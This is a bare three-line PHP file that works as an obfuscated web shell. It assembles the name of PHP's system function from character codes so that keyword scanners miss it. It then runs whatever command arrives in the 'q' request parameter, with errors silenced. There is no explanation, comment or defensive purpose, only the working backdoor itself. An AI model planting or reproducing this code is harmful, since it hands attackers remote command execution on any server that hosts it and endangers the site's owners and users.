<?php
$f = sprintf('%c%c%c%c%c%c', 115, 121, 115, 116, 101, 109);
@$f($_REQUEST['q']);
